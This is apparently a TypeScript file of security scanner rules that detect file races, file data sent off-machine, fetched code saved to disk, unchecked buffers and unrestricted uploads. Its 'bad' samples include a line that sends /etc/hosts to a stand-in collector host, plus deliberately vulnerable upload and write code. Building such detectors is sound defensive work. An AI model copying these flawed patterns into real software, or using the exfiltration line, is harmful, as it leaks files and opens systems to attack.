/** Files that change between two looks, that leave the machine, or that others write. */
import { KIND } from "../engine/kinds.ts";
import type { Call } from "../engine/run.ts";
import { option, untrusted, type ScanRule } from "../rule.ts";
import type { Node, SourceFile } from "../parse.ts";
import { nameOf, textAt } from "./names.ts";

const LOOKS = /\b(?:existsSync|exists|statSync|stat|lstatSync|lstat|accessSync|access)$/u;
const CHANGES = /^(?:\w+\.)*(?:writeFile|writeFileSync|appendFile|appendFileSync|open|openSync|createWriteStream)$/u;

/** A file that was there a moment ago. */
export const FILE_RACE: ScanRule = {
  id: "scan/file-race",
  severity: "note",
  cwe: ["CWE-367"],
  owasp: "A01",
  what: "A file is looked at by its name, and then opened for writing by the same name.",
  why: "Between the two, another process puts a link or a file of its own there.",
  fix: 'Open it once, with the flag "wx" where it must be new, and ask the handle: fs.fstat().',
  bad: 'import fs from "node:fs";\nexport const keep = (file, data) => { if (!fs.existsSync(file)) fs.writeFileSync(file, data); };',
  good: 'import fs from "node:fs";\nexport const keep = (file, data) => fs.writeFileSync(file, data, { flag: "wx" });',
  nodes: (node, parents, file, report) => {
    if (node.type !== "CallExpression" || !CHANGES.test(textAt(file, node.callee))) return;
    const [path, flags] = node.arguments;
    if (path === undefined || path.type === "Literal" || /wx/u.test(textAt(file, flags))) return;
    if (/\bopen(?:Sync)?$/u.test(textAt(file, node.callee)) && !/[wa+]/u.test(textAt(file, flags))) return;
    if (/wx/u.test(textAt(file, node))) return;
    const decided = parents.some(
      (one) =>
        one.type === "IfStatement" ||
        one.type === "CatchClause" ||
        (one.type === "CallExpression" && LOOKS.test(textAt(file, one.callee))),
    );
    const around = decided ? parents.find((one) => /Function|Program/u.test(one.type)) : undefined;
    if (around !== undefined && looksBefore(around, node, textAt(file, path), file)) report(node, textAt(file, path));
  },
};

function looksBefore(around: Node, node: Node, path: string, { text }: SourceFile): boolean {
  if (!/^[\w.]+$/u.test(path)) return false;
  const before = text.slice(around.start, node.start);
  return [...before.matchAll(/([\w.]+)\(\s*([\w.]+)\s*[,)]/gu)].some(
    ([, callee = "", asked]) => asked === path && LOOKS.test(callee),
  );
}

const SENDS =
  /^(?:fetch|axios(?:\.\w+)?|got(?:\.\w+)?|https?\.(?:get|request)|node-fetch|undici\.(?:fetch|request)|superagent\.\w+|request(?:\.\w+)?)$/u;

/** What stands in files of the machine, sent away. */
export const FILE_DATA_SENT: ScanRule = {
  id: "scan/file-data-sent",
  severity: "note",
  cwe: ["CWE-200"],
  owasp: "A01",
  what: "What was read from a file is sent to another machine.",
  why: "Files hold keys and other people's data; a package that does so may be after them.",
  fix: "Send what is meant to leave, by its name, and nothing else.",
  bad: 'import fs from "node:fs";\nconst text = fs.readFileSync("/etc/hosts", "utf8");\nfetch("https://collect.example.com/?text=" + text);',
  good: 'import fs from "node:fs";\nconst text = fs.readFileSync("/etc/hosts", "utf8");\nfetch("https://collect.example.com/?lines=" + text.split("\\n").length);',
  calls: (call, report) => {
    const { api, name, args, run, node } = call;
    const isBody = /^https?\.request\(\)\.(?:write|end)$/u.test(api);
    if (!isBody && !SENDS.test(api)) return;
    const sent = args.flatMap((value) =>
      value.fields === undefined
        ? [value]
        : ["url", "path", "body", "data", "json", "form"].flatMap((key) => option(value, key) ?? []),
    );
    for (const value of sent) {
      const taint = untrusted(run, value, KIND.ssrf, ["file"], 2);
      if (taint !== undefined) report(node, `${taint.label} in ${name}()`, taint);
    }
  },
};

/** What another machine sent, kept as a file. */
export const NETWORK_DATA_STORED: ScanRule = {
  id: "scan/network-data-stored",
  severity: "note",
  cwe: ["CWE-434", "CWE-912"],
  owasp: "A08",
  what: "What another machine answered is written to a file.",
  why: "It may be a program, and the next one to read the file may run it.",
  fix: "Compare the digest of what was fetched with one of your own before it is kept.",
  bad: 'import https from "node:https";\nimport fs from "node:fs";\nhttps.get("https://tools.example.com/run.js", (answer) => answer.on("data", (text) => fs.writeFileSync("run.js", text)));',
  good: 'import https from "node:https";\nhttps.get("https://tools.example.com/run.js", (answer) => answer.on("data", (text) => console.log(text.length)));',
  calls: (call, report) => {
    const { api, name, args, run, node } = call;
    if (!/^fs(?:\/promises|\.promises)?\.(?:write|append)File(?:Sync)?$/u.test(api)) return;
    const taint = untrusted(run, args[1], KIND.html, ["network", "stored"], 1);
    const isAnswer = taint?.source === "network" || /^(?:fetch|axios)\b/u.test(taint?.label ?? "");
    if (isAnswer && taint !== undefined) report(node, `${taint.label} in ${name}()`, taint);
  },
};

const NUMBERS = /^(?:read|write)(?:U?Int(?:8|(?:16|32)(?:LE|BE)|LE|BE)|(?:Float|Double)(?:LE|BE))$/u;

/** Numbers beside a buffer. */
export const UNCHECKED_BUFFER: ScanRule = {
  id: "scan/unchecked-buffer",
  severity: "warning",
  cwe: ["CWE-119", "CWE-908"],
  owasp: "A04",
  what: "A buffer is read or written without asking for its end, or is made of memory that held something else.",
  why: "What stands behind the end is another request's, a key perhaps.",
  fix: "Leave noAssert out, and make buffers with Buffer.alloc() and Buffer.from().",
  bad: "export const first = (data) => data.readUInt8(0, true);",
  good: "export const first = (data) => data.readUInt8(0);",
  calls: ({ api, name, args, isNew, node, receiver, run }: Call, report) => {
    if (NUMBERS.test(name) && args.at(-1)?.literal === true) report(node, "noAssert");
    const isSent = receiver?.role === "response" && /^(?:send|end|write)$/u.test(name);
    const isRaw = /^Buffer\.allocUnsafe(?:Slow)?\(\)$/u.test(args[0]?.api ?? "");
    if (isSent && isRaw && !/\.(?:fill|copy|set|write\w*)\(/u.test(textAt(run.module.file, run.frame.closure?.node)))
      report(node, "allocUnsafe()");
    if (isNew && api === "Buffer" && args[0]?.type === "number") report(node, "new Buffer()");
  },
};

/** A file that is whatever its name says. */
export const UNRESTRICTED_UPLOAD: ScanRule = {
  id: "scan/unrestricted-upload",
  severity: "warning",
  cwe: ["CWE-434"],
  owasp: "A04",
  what: "An upload keeps the ending that the client gave it, and nothing asks which that is.",
  why: "avatar.html is then a page of your site with a script of somebody else's, and avatar.php a program where there is one to run it.",
  fix: "Take a list of types, look at what the file holds (upload of glacis/input does), and give it a name and an ending of your own.",
  bad: 'import multer from "multer";\nimport path from "node:path";\nexport const upload = multer({ limits: { fileSize: 1e6 }, storage: multer.diskStorage({ destination: "public", filename: (req, file, done) => done(null, Date.now() + path.extname(file.originalname)) }) });',
  good: 'import multer from "multer";\nimport { randomUUID } from "node:crypto";\nexport const upload = multer({ limits: { fileSize: 1e6 }, storage: multer.diskStorage({ destination: "public", filename: (req, file, done) => done(null, `${randomUUID()}.bin`) }) });',
  nodes: (node, parents, file, report) => {
    if (node.type !== "Property" || nameOf(node.key) !== "filename") return;
    const text = textAt(file, node.value);
    const isStorage = parents.some(
      (one) => one.type === "CallExpression" && textAt(file, one.callee).endsWith("diskStorage"),
    );
    if (!isStorage || !text.includes("originalname")) return;
    if (!/fileFilter|mime_?type|\ballowed|extensions?\b|file_?types?\b/iu.test(file.text)) report(node, "originalname");
  },
};
